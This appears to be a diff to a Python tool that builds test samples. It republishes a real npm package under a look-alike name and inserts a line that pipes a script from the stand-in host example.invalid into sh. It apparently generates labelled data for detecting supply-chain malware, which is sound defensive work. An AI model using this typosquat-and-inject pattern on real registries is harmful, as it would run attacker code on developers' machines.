@@ -137,3 +137,30 @@ def inject_postinstall(purl: str, work: Path) -> Injected:
 def _mkdir(path: Path) -> bool:
     path.mkdir(parents=True, exist_ok=True)
     return True
+
+
+JS_PAYLOAD = [
+    'require("child_process").exec("curl -s http://example.invalid/i.sh | sh");',
+]
+
+
+def inject_npm_copy(purl: str, work: Path, member: str, name: str) -> Injected:
+    """A real npm tarball republished under a look-alike `name`, `JS_PAYLOAD` added at the
+    top level of `member` (after its first line)."""
+    clean = download(purl, work / "clean")
+    out = []
+    line = 0
+    for info, data in _members(clean):
+        if data is not None and info.name == "package/package.json":
+            doc = json.loads(data)
+            doc["name"] = name
+            data = (json.dumps(doc, indent=2) + "\n").encode()
+        elif data is not None and info.name == member:
+            lines = data.decode("utf-8").splitlines()
+            lines[1:1] = JS_PAYLOAD
+            line = 1 + len(JS_PAYLOAD)
+            data = ("\n".join(lines) + "\n").encode()
+        out.append((info, data))
+    _mkdir(work / "injected")
+    archive = _write(work / "injected" / f"{name}.tgz", out)
+    return Injected(clean, archive, member, line, "")
